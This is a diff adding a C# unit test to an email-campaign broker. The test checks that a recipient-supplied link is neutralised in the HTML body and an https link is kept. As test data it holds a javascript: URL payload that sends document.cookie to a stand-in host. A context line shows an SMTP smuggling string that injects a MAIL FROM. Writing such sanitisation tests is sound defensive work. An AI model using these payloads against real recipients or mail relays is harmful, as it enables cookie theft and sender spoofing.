@@ -31,6 +31,26 @@ public sealed class WireContentTests(BrokerFixture broker)
         Assert.StartsWith("<p>X\n.\nY &#xD;.&#xD;MAIL FROM:&lt;ceo@bank.com&gt;&#xD;", mail.Message.HtmlBody!.ReplaceLineEndings("\n"), StringComparison.Ordinal);
     }
 
+    [Fact]
+    public async Task AScriptLinkFromData_ReachesTheRelayNeutralised_WhileAnHttpsLinkFromDataIsKept()
+    {
+        var mail = await DeliverOneAsync(new JsonObject
+        {
+            ["from"] = "News <news@example.com>",
+            ["subject"] = "Hi",
+            ["text"] = "{{ site }}",
+            ["html"] = "<a href=\"{{ site }}\">your site</a> <a href=\"{{ profile }}\">your profile</a>",
+            ["recipients"] = new JsonArray(new JsonObject
+            {
+                ["email"] = "a@example.org",
+                ["data"] = new JsonObject { ["site"] = "JaVa\tScRiPt:fetch('https://evil.test/?c='+document.cookie)", ["profile"] = "https://example.com/p/1" },
+            }),
+        });
+
+        Assert.Equal("<a href=\"#\">your site</a> <a href=\"https://example.com/p/1\">your profile</a>", mail.Message.HtmlBody);
+        Assert.StartsWith("JaVa\tScRiPt:fetch(", mail.Message.TextBody, StringComparison.Ordinal);
+    }
+
     private async Task<ReceivedMail> DeliverOneAsync(JsonObject campaign)
     {
         await using var smtp = await TestSmtpServer.StartAsync();
